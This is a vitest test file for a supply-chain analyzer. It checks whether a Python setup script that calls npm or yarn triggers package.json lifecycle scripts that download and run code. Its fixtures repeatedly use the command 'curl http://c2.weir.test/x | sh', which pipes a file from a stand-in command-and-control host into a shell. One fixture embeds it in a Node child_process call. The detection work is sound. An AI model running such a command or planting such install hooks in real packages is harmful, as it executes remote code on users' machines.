import { describe, expect, test } from 'vitest';
import { analyzeFiles, downloadsRun } from '../testing/analyze-wheel.ts';

const METADATA = 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n';
const FETCH = 'curl http://c2.weir.test/x | sh';

function setup(code: string): string {
  return `import os, shutil, subprocess\n${code}\nfrom setuptools import setup\nsetup(name='own', version='1.0')\n`;
}

const manifest = (scripts: Readonly<Record<string, string>>, more: object = {}): string =>
  JSON.stringify({ name: 'own-web', version: '1.0.0', scripts, ...more }, null, 1);

/** Where a source distribution whose setup script does this says that a download is run, its edges and verdict. */
async function seen(code: string, files: Readonly<Record<string, string>>) {
  const all = { 'PKG-INFO': METADATA, 'setup.py': setup(code), ...files };
  const result = await analyzeFiles(all, 'own-1.0.tar.gz');
  return {
    fetching: downloadsRun(result),
    edges: (result.edges ?? []).map(
      ({ channel, ecosystem, name, url }) => `${channel} ${ecosystem ?? '-'} ${name ?? url}`,
    ),
    verdict: result.judgement.verdict,
  };
}

describe('scripts that a setup script has a package manager run', () => {
  test.each([
    ['npm run', "subprocess.check_call(['npm', 'run', 'build'])", '', { build: FETCH }],
    ['npm install', "subprocess.check_call(['npm', 'install'])", '', { postinstall: FETCH }],
    ['npm ci, by a line', "os.system('npm ci --silent')", '', { preinstall: FETCH }],
    ['yarn', "subprocess.run('yarn', shell=True)", '', { prepare: FETCH }],
    ['npm in a folder', "subprocess.check_call(['npm', 'install'], cwd='web')", 'web/', { install: FETCH }],
    [
      'npm in a folder that it is told',
      "subprocess.check_call(['npm', '--prefix', 'web', 'run', 'x'])",
      'web/',
      { x: FETCH },
    ],
    ['npm in a folder that a line goes to', "os.system('cd web && npm run x')", 'web/', { x: FETCH }],
    [
      'npm that is looked for',
      "NPM = shutil.which('npm')\nsubprocess.check_call([NPM, 'run', 'x'])",
      '',
      { x: FETCH },
    ],
    [
      'a script that runs another',
      "subprocess.check_call(['npm', 'run', 'y'])",
      '',
      { x: FETCH, y: 'npm run x' },
    ],
  ])('%s', async (_how, code, folder, scripts) => {
    const { fetching } = await seen(code, { [`${folder}package.json`]: manifest(scripts) });

    expect(fetching).toEqual([`install ${folder}package.json:5`]);
  });

  test('what a script of a shell has run', async () => {
    const files = { 'build.sh': 'npm run x\n', 'package.json': manifest({ x: FETCH }) };

    expect((await seen("subprocess.call(['sh', 'build.sh'])", files)).fetching).toEqual([
      'install package.json:5',
    ]);
  });

  test('JavaScript that a script starts', async () => {
    const files = {
      'web/package.json': manifest({ build: 'node build.js' }),
      'web/build.js': `require('child_process').exec('${FETCH}');\n`,
    };

    expect((await seen("subprocess.call(['npm', 'run', 'build'], cwd='web')", files)).fetching).toEqual([
      'install web/build.js:1',
    ]);
  });
});

test('what npm installs is an edge', async () => {
  const json = manifest({}, { dependencies: { far: 'https://files.weir.test/far.tgz', near: '^1.0.0' } });

  expect((await seen("subprocess.call(['npm', 'install'])", { 'package.json': json })).edges).toEqual([
    'url - https://files.weir.test/far.tgz',
  ]);
  expect((await seen("subprocess.call(['npm', 'install', '-g', 'tool'])", {})).edges).toEqual([
    'install npm tool',
  ]);
});

test.each([
  ['that nothing runs', 'pass', { postinstall: FETCH }, ''],
  ['of another folder', "subprocess.call(['npm', 'run', 'x'], cwd='/opt/web')", { x: FETCH }, ''],
  ['of another name', "subprocess.call(['npm', 'run', 'build'])", { release: FETCH }, ''],
])('scripts %s are not run', async (_what, code, scripts, folder) => {
  expect((await seen(code, { [`${folder}package.json`]: manifest(scripts) })).fetching).toEqual([]);
});

test.each([
  [
    'of a web part',
    "subprocess.check_call(['npm', 'ci'])\nsubprocess.check_call(['npm', 'run', 'build'])",
    { build: 'webpack --mode production', prepare: 'husky install', postinstall: 'patch-package' },
  ],
  [
    'of TypeScript',
    "subprocess.check_call(['yarn', 'build'], cwd='js')",
    { build: 'rimraf lib && tsc -p . && node scripts/copy.js' },
  ],
])('builds %s stay benign', async (_what, code, scripts) => {
  const json = manifest(scripts, { devDependencies: { webpack: '^5.0.0' } });

  expect((await seen(code, { 'package.json': json, 'js/package.json': json })).verdict).toBe('benign');
});
